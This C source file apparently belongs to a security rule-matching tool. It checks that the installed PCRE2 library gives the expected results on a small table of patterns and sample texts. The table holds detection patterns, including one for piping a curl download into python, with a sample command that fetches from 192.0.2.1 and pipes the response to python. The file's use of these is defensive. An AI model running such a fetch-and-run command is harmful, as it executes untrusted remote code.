/* SPDX-License-Identifier: Apache-2.0 */
#include "rules/rules.h"
#include "rules/match/literal.h"
#include "rules/match/regex.h"

/* A library that loses matches loses attacks without a word, so each is asked some questions whose
 * answers are known before anything depends on it. */

static const struct {
    const char *pattern, *text;
    uint32_t flags;
    bool is_match;
} questions[] = {
    {"^.*TAPIOCA.*EX.*$", "tapioca house tuxtla gutier mex", REGEX_CASELESS, true},
    {"curl.*\\|\\s*python", "curl http://192.0.2.1:8080/ 2>&1 | python", REGEX_DOTALL, true},
    {"<%[\\s\\S]+%>", "<%out.print();int a%>", 0, true},
    {"^(?:a+)+$", "aaaaaaaaaaaaaaaaaaaaaaaab", 0, false},
    {"\\bs(?:h|sh)d?\\b", "x sshd y", 0, true},
    {"\xC3\xA4+", "\xC3\x84", REGEX_CASELESS, true},
    {"a.b",
     "a\xFF\xFE"
     "b",
     0, false},
};

static enum status probe_regex(struct error *err)
{
    AUTO(regex_scratch) scratch = NULL;
    enum status status = regex_scratch_new(&scratch, err);
    for (size_t i = 0; !status && i < sizeof questions / sizeof *questions; i++) {
        AUTO(regex) r = NULL;
        status = regex_new(text_of(questions[i].pattern), questions[i].flags, &r, err);
        if (status)
            break;
        bool is_match = regex_search(r, scratch, text_of(questions[i].text)) == REGEX_YES;
        if (is_match != questions[i].is_match)
            status =
                error_set(err, STATUS_UNSUPPORTED, 0,
                          "the installed PCRE2 answers '%s' wrongly: Tocsin will not run on it",
                          questions[i].pattern);
    }
    return status;
}

enum status rules_probe_libraries(struct error *err)
{
    return probe_regex(err);
}
